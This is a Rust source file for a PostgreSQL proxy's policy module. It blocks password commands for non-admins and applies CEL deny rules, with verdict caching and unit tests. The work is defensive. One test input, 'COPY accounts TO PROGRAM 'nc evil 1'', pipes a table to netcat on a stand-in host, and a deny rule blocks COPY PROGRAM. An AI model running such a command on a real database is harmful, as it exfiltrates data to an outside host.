//! Statements the proxy refuses before PostgreSQL sees them: password commands by anyone
//! but the password admins (like RDS's `rds.restrict_password_commands`), and the
//! operator's deny rules, CEL conditions over the parsed statement and the session.
//!
//! A verdict depends only on the statement's analysis (class, command, objects, traits),
//! which same-shape statements share, and on the session's user, database, application
//! and identity. It is cached under the statement's fingerprint and a key of those session
//! facts, so a repeated statement costs a hash lookup after its classification (itself
//! cached). Without a `[policy]` the relay never calls in here.

use std::collections::{HashMap, HashSet};
use std::sync::{Arc, Mutex};

use cel::{Context, Program, Value};
use pgtrail_event::{Classified, Statement};

use crate::ProxyError;
use crate::config::{DenyRule, PolicyConfig};
use crate::tracker::SessionFacts;

/// Why a statement is refused.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Denial {
    /// The rule's name (`restrict_password_commands` for the built-in one).
    pub(crate) rule: Arc<str>,
    /// What the client is told.
    pub(crate) message: Arc<str>,
}

/// Session key -> statement fingerprint -> verdict; `entries` bounds the total.
#[derive(Default)]
struct VerdictCache {
    sessions: HashMap<Arc<str>, HashMap<String, Option<Denial>>>,
    entries: usize,
}

struct CompiledRule {
    name: Arc<str>,
    condition: Program,
    message: Arc<str>,
}

/// The compiled policy.
pub(crate) struct Policy {
    restrict_passwords: bool,
    password_admins: HashSet<String>,
    rules: Vec<CompiledRule>,
    cache: Mutex<VerdictCache>,
}

impl std::fmt::Debug for Policy {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Policy").field("rules", &self.rules.len()).finish_non_exhaustive()
    }
}

const CACHE_CAPACITY: usize = 10_000;
pub(crate) const PASSWORD_RULE: &str = "restrict_password_commands";

impl Policy {
    /// Compiles the configuration; `None` when there is nothing to check.
    pub(crate) fn compile(config: &PolicyConfig, token_login: bool) -> Result<Option<Self>, ProxyError> {
        let restrict_passwords = config.restrict_password_commands.unwrap_or(token_login);
        if !restrict_passwords && config.deny.is_empty() {
            return Ok(None);
        }
        let mut names = HashSet::new();
        let mut rules = Vec::new();
        for DenyRule { name, when, message } in &config.deny {
            if !names.insert(name.as_str()) {
                return Err(ProxyError::Config(format!("policy.deny: two rules are named {name:?}")));
            }
            let condition = Program::compile(when).map_err(|e| {
                ProxyError::Config(format!("policy.deny {name:?}: the condition does not compile: {e}"))
            })?;
            // Try it on a sample, so a misspelt variable fails at start, not per statement.
            let sample = sample_context();
            match condition.execute(&sample) {
                Ok(Value::Bool(_)) => {}
                Ok(_) => {
                    return Err(ProxyError::Config(format!("policy.deny {name:?}: the condition is not a boolean")));
                }
                Err(e) => return Err(ProxyError::Config(format!("policy.deny {name:?}: {e}"))),
            }
            rules.push(CompiledRule { name: name.as_str().into(), condition, message: message.as_str().into() });
        }
        Ok(Some(Self {
            restrict_passwords,
            password_admins: config.password_admins.iter().cloned().collect(),
            rules,
            cache: Mutex::new(VerdictCache::default()),
        }))
    }

    /// The session facts a verdict may depend on, as one cache key part.
    pub(crate) fn session_key(facts: &SessionFacts) -> Arc<str> {
        let identity = facts.identity.as_ref().map(|i| serde_json::to_string(i).unwrap_or_default());
        Arc::from(format!("{:?}\0{:?}\0{:?}\0{:?}", facts.user, facts.database, facts.application, identity))
    }

    /// The first statement of `classified` to refuse (its index) and why, if there is one.
    pub(crate) fn check(
        &self,
        classified: &Classified,
        facts: &SessionFacts,
        session_key: &Arc<str>,
    ) -> Option<(usize, Denial)> {
        classified
            .statements
            .iter()
            .enumerate()
            .find_map(|(i, s)| Some((i, self.check_statement(s, facts, session_key)?)))
    }

    /// Whether `text` could set a password, cheaply: only such texts need classifying
    /// when password restriction is the whole policy.
    pub(crate) fn needs_check(&self, text: &str) -> bool {
        !self.rules.is_empty() || (self.restrict_passwords && contains_ignore_case(text, b"password"))
    }

    fn check_statement(&self, statement: &Statement, facts: &SessionFacts, session_key: &Arc<str>) -> Option<Denial> {
        // Text the parser rejected: PostgreSQL rejects it too.
        let fingerprint = statement.fingerprint.as_ref()?;
        // Looked up by reference: a hit allocates nothing.
        if let Some(hit) = self.lock().sessions.get(session_key).and_then(|s| s.get(fingerprint.as_str())) {
            return hit.clone();
        }
        let verdict = self.decide(statement, facts);
        let mut cache = self.lock();
        if cache.entries >= CACHE_CAPACITY {
            // Crude but bounded, like the classifier's cache.
            *cache = VerdictCache::default();
        }
        cache.entries += 1;
        cache.sessions.entry(Arc::clone(session_key)).or_default().insert(fingerprint.clone(), verdict.clone());
        verdict
    }

    fn decide(&self, statement: &Statement, facts: &SessionFacts) -> Option<Denial> {
        if self.restrict_passwords && statement.traits.sets_password && !self.is_password_admin(facts) {
            return Some(Denial {
                rule: PASSWORD_RULE.into(),
                message: "setting a password is restricted to the password admins \
                          (policy.restrict_password_commands)"
                    .into(),
            });
        }
        if self.rules.is_empty() {
            return None;
        }
        let context = context_for(statement, facts);
        self.rules.iter().find_map(|rule| match rule.condition.execute(&context) {
            Ok(Value::Bool(true)) => Some(Denial { rule: Arc::clone(&rule.name), message: Arc::clone(&rule.message) }),
            Ok(_) => None,
            Err(e) => {
                // A rule that cannot be evaluated denies: failing open would let anything
                // that confuses it through.
                tracing::warn!(rule = %rule.name, error = %e, "deny rule failed to evaluate; denying");
                Some(Denial { rule: Arc::clone(&rule.name), message: Arc::clone(&rule.message) })
            }
        })
    }

    fn is_password_admin(&self, facts: &SessionFacts) -> bool {
        let user = facts.user.as_deref().is_some_and(|u| self.password_admins.contains(u));
        let person = facts.identity.as_ref().is_some_and(|i| {
            self.password_admins.contains(&i.subject)
                || i.email.as_ref().is_some_and(|e| self.password_admins.contains(e))
        });
        // With token login the person must be an admin; the database user alone is not
        // enough, since a mapping may give many people the same user.
        if facts.identity.is_some() { person } else { user }
    }

    fn lock(&self) -> std::sync::MutexGuard<'_, VerdictCache> {
        self.cache.lock().unwrap_or_else(|p| p.into_inner())
    }
}

fn contains_ignore_case(haystack: &str, needle: &[u8]) -> bool {
    haystack.as_bytes().windows(needle.len()).any(|w| w.eq_ignore_ascii_case(needle))
}

fn text(value: Option<&str>) -> Value {
    value.map_or(Value::Null, |s| Value::from(s.to_owned()))
}

fn context_for(statement: &Statement, facts: &SessionFacts) -> Context<'static> {
    let mut context = Context::default();
    let objects: Vec<Value> = statement.objects.iter().map(|o| Value::from(o.name.clone())).collect();
    let class = statement.class.map(|c| serde_json::to_value(c).ok().and_then(|v| v.as_str().map(str::to_owned)));
    let fields: HashMap<String, Value> = [
        ("class", text(class.flatten().as_deref())),
        ("command", text(statement.command.as_deref())),
        ("objects", Value::from(objects)),
        ("hasWhere", Value::Bool(statement.traits.has_where)),
        ("copyProgram", Value::Bool(statement.traits.copy_program)),
        ("setsPassword", Value::Bool(statement.traits.sets_password)),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_owned(), v))
    .collect();
    context.add_variable_from_value("statement", Value::from(fields));
    let identity = match &facts.identity {
        None => Value::Null,
        Some(i) => {
            let groups: Vec<Value> = i.groups.iter().map(|g| Value::from(g.clone())).collect();
            let map: HashMap<String, Value> = [
                ("issuer", text(Some(&i.issuer))),
                ("subject", text(Some(&i.subject))),
                ("name", text(i.name.as_deref())),
                ("email", text(i.email.as_deref())),
                ("groups", Value::from(groups)),
                ("tokenId", text(i.token_id.as_deref())),
                ("authMethod", text(Some(&i.auth_method))),
            ]
            .into_iter()
            .map(|(k, v)| (k.to_owned(), v))
            .collect();
            Value::from(map)
        }
    };
    context.add_variable_from_value("identity", identity);
    context.add_variable_from_value("user", text(facts.user.as_deref()));
    context.add_variable_from_value("database", text(facts.database.as_deref()));
    context.add_variable_from_value("application", text(facts.application.as_deref()));
    context
}

fn sample_context() -> Context<'static> {
    let classifier = pgtrail_event::Classifier::new(1);
    let classified = classifier.classify("UPDATE accounts SET balance = 0");
    let facts = SessionFacts {
        user: Some("alice".into()),
        database: Some("bank".into()),
        identity: Some(Arc::new(pgtrail_event::Identity {
            issuer: "https://idp.example".into(),
            subject: "alice".into(),
            name: Some("Alice".into()),
            email: Some("alice@example.com".into()),
            groups: vec!["dba".into()],
            token_id: None,
            auth_method: "oidc".into(),
        })),
        ..SessionFacts::default()
    };
    context_for(&classified.statements[0], &facts)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn policy(toml_rules: &[(&str, &str)], restrict: Option<bool>, admins: &[&str]) -> Policy {
        let config = PolicyConfig {
            restrict_password_commands: restrict,
            password_admins: admins.iter().map(|a| (*a).to_owned()).collect(),
            deny: toml_rules
                .iter()
                .map(|(name, when)| DenyRule { name: (*name).into(), when: (*when).into(), message: "no".into() })
                .collect(),
        };
        Policy::compile(&config, false).expect("compiles").expect("something to check")
    }

    fn check(policy: &Policy, sql: &str, facts: &SessionFacts) -> Option<String> {
        let classified = pgtrail_event::Classifier::new(10).classify(sql);
        policy.check(&classified, facts, &Policy::session_key(facts)).map(|(_, d)| d.rule.to_string())
    }

    fn human() -> SessionFacts {
        let mut facts = sample_facts();
        facts.user = Some("alice".into());
        facts
    }

    fn sample_facts() -> SessionFacts {
        SessionFacts {
            identity: Some(Arc::new(pgtrail_event::Identity {
                issuer: "https://idp".into(),
                subject: "alice".into(),
                name: None,
                email: Some("alice@example.com".into()),
                groups: vec!["engineering".into()],
                token_id: None,
                auth_method: "oidc".into(),
            })),
            ..SessionFacts::default()
        }
    }

    #[test]
    fn deny_rules_see_the_parsed_statement_and_the_person() {
        let p = policy(
            &[
                ("no DDL for humans", r#"statement.class == "DDL" && identity != null"#),
                ("no COPY PROGRAM", "statement.copyProgram"),
                (
                    "no unfiltered writes on accounts",
                    r#"statement.command in ["UPDATE", "DELETE"] && !statement.hasWhere && statement.objects.exists(o, o == "accounts")"#,
                ),
            ],
            Some(false),
            &[],
        );
        let alice = human();
        let service = SessionFacts { user: Some("app".into()), ..SessionFacts::default() };
        assert_eq!(check(&p, "CREATE TABLE t (x int)", &alice).as_deref(), Some("no DDL for humans"));
        assert_eq!(check(&p, "CREATE TABLE t (x int)", &service), None);
        assert_eq!(check(&p, "COPY accounts TO PROGRAM 'nc evil 1'", &service).as_deref(), Some("no COPY PROGRAM"));
        assert_eq!(check(&p, "DELETE FROM accounts", &service).as_deref(), Some("no unfiltered writes on accounts"));
        assert_eq!(check(&p, "DELETE FROM accounts WHERE id = 1", &service), None);
        assert_eq!(check(&p, "DELETE FROM other", &service), None);
        // Any statement of a multi-statement text.
        assert_eq!(
            check(&p, "SELECT 1; UPDATE accounts SET b = 0", &service).as_deref(),
            Some("no unfiltered writes on accounts")
        );
        // The verdict is cached per shape and session: same answer, whatever the constants.
        assert_eq!(check(&p, "DELETE FROM accounts WHERE id = 2", &service), None);
    }

    #[test]
    fn password_commands_only_for_admins() {
        let p = policy(&[], Some(true), &["postgres", "carol@example.com"]);
        let alice = human();
        assert_eq!(check(&p, "ALTER USER alice PASSWORD 'x'", &alice).as_deref(), Some(PASSWORD_RULE));
        assert_eq!(check(&p, "ALTER USER alice NOLOGIN", &alice), None);
        let postgres = SessionFacts { user: Some("postgres".into()), ..SessionFacts::default() };
        assert_eq!(check(&p, "ALTER USER alice PASSWORD 'x'", &postgres), None);
        // A person logged in as the admin database user is not an admin.
        let mut alice_as_postgres = human();
        alice_as_postgres.user = Some("postgres".into());
        assert_eq!(check(&p, "CREATE ROLE r PASSWORD 'x'", &alice_as_postgres).as_deref(), Some(PASSWORD_RULE));
        let mut carol = human();
        Arc::make_mut(carol.identity.as_mut().expect("identity")).email = Some("carol@example.com".into());
        assert_eq!(check(&p, "CREATE ROLE r PASSWORD 'x'", &carol), None);
    }

    #[test]
    fn bad_rules_fail_at_start() {
        for when in ["statement.klass == 1", "statement.class", "(("] {
            let config = PolicyConfig {
                deny: vec![DenyRule { name: "r".into(), when: when.into(), message: "m".into() }],
                ..PolicyConfig::default()
            };
            assert!(Policy::compile(&config, false).is_err(), "{when}");
        }
        assert!(Policy::compile(&PolicyConfig::default(), false).expect("ok").is_none());
    }
}
